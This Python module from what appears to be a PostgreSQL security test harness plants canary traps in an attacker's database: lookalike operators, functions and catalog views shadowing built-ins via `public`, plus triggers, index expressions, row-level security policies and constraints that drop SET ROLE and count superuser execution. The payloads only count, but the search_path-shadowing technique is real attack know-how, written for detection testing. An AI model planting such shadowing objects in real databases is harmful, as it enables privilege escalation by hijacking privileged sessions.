"""Traps in the attacker's database that say so when a session of anybody else's runs the attacker's code.

A trap takes off any SET ROLE first, as hostile code would (CVE-2026-44477), and then looks whether it is a superuser.
What it found is counted in a sequence, which keeps its value when the transaction is rolled back.
"""

from capyd.attack.attempt import Door
from capyd.attack.field import Field
from capyd.attack.sql import spelled

_TRAP = """
CREATE SCHEMA IF NOT EXISTS capy_canary;
CREATE SEQUENCE IF NOT EXISTS capy_canary.sprung;
CREATE OR REPLACE FUNCTION capy_canary.spring() RETURNS boolean LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog AS $$
BEGIN
    IF session_user = '{own}' THEN
        RETURN true;
    END IF;
    BEGIN
        PERFORM set_config('role', 'none', true);
        IF current_setting('is_superuser') = 'on' THEN
            PERFORM nextval('capy_canary.sprung');
        END IF;
    EXCEPTION WHEN OTHERS THEN
        -- A context that PostgreSQL itself confines, such as an index rebuilt by autovacuum.
        NULL;
    END;
    RETURN true;
END $$;
"""
# Of the same types as built-in ones, so that they are the better match wherever `public` comes first.
_OPERATORS = (("=", "name", "name"), ("=", "name", "text"), ("=", "text", "text"), ("=", "oid", "oid"),
              ("<>", "int4", "int4"), ("=", "bool", "bool"), ("~~", "text", "text"))  # fmt: skip
_FUNCTIONS = ("pg_database_size(oid) RETURNS bigint", "to_regnamespace(text) RETURNS regnamespace",
              "current_database() RETURNS name", "count(text) RETURNS bigint", "lower(text) RETURNS text",
              "now() RETURNS timestamptz")  # fmt: skip
_CATALOGS = ("pg_extension", "pg_available_extensions", "pg_database", "pg_namespace", "pg_roles", "pg_class")
_TABLE = """
CREATE TABLE public.capy_trap (id int DEFAULT 1, t text CHECK (capy_canary.spring()));
CREATE INDEX ON public.capy_trap ((capy_canary.spring()));
CREATE FUNCTION capy_canary.fire() RETURNS trigger LANGUAGE plpgsql AS
    'BEGIN PERFORM capy_canary.spring(); RETURN coalesce(NEW, OLD); END';
CREATE TRIGGER capy_trap BEFORE INSERT OR UPDATE OR DELETE ON public.capy_trap
    FOR EACH ROW EXECUTE FUNCTION capy_canary.fire();
ALTER TABLE public.capy_trap ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.capy_trap FORCE ROW LEVEL SECURITY;
CREATE POLICY capy_trap ON public.capy_trap USING (capy_canary.spring());
INSERT INTO public.capy_trap (t) SELECT 'x' FROM generate_series(1, 200);
CREATE MATERIALIZED VIEW public.capy_trap_view AS SELECT capy_canary.spring() AS sprung;
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC;
"""


def _lookalikes(schema: str) -> str:
    statements = []
    for number, (operator, left, right) in enumerate(_OPERATORS):
        function = f"{schema}.capy_trap_{number}"
        statements += [
            f"CREATE FUNCTION {function}({left}, {right}) RETURNS boolean LANGUAGE plpgsql AS"
            " 'BEGIN RETURN capy_canary.spring(); END'",
            f"CREATE OPERATOR {schema}.{operator} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {function})",
        ]
    for signature in _FUNCTIONS:
        statements.append(
            f"CREATE FUNCTION {schema}.{signature} LANGUAGE plpgsql AS"
            " 'BEGIN PERFORM capy_canary.spring(); RETURN NULL; END'"
        )
    for view in _CATALOGS:
        statements.append(f"CREATE VIEW {schema}.{view} AS SELECT capy_canary.spring() AS sprung")
    return ";\n".join(statements)


async def plant(field: Field) -> None:
    """Set the traps, where they are not set yet: in `public`, and in the schema that is named as the administrator."""
    async with await field.attacker.connect(Door.DIRECT) as session:
        cursor = await session.execute(b"SELECT pg_catalog.to_regclass('public.capy_trap')")
        if await cursor.fetchone() != (None,):
            return
        await session.execute(b"BEGIN")
        await session.execute(spelled(_TRAP, field).encode())
        await session.execute(spelled("CREATE SCHEMA {admin}", field).encode())
        for schema in ("public", field.names["admin"]):
            await session.execute(_lookalikes(schema).encode())
        await session.execute(_TABLE.encode())
        await session.execute(b"COMMIT")


async def pull_up_lookalikes(field: Field) -> None:
    """Take what is named as built-in objects out of `public` again. The other traps stay."""
    async with await field.attacker.connect(Door.DIRECT) as session:
        await session.execute(b"SET search_path = pg_catalog")
        for number, (operator, left, right) in enumerate(_OPERATORS):
            await session.execute(f"DROP OPERATOR public.{operator} ({left}, {right})".encode())
            await session.execute(f"DROP FUNCTION public.capy_trap_{number}".encode())
        for signature in _FUNCTIONS:
            await session.execute(f"DROP FUNCTION public.{signature.partition(' RETURNS')[0]}".encode())
        for view in _CATALOGS:
            await session.execute(f"DROP VIEW public.{view}".encode())


async def count_sprung(field: Field) -> int:
    """How often a trap has found itself run as a superuser."""
    async with await field.attacker.connect(Door.DIRECT) as session:
        cursor = await session.execute(b"SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM capy_canary.sprung")
        row = await cursor.fetchone()
        return int(str(row[0])) if row else 0
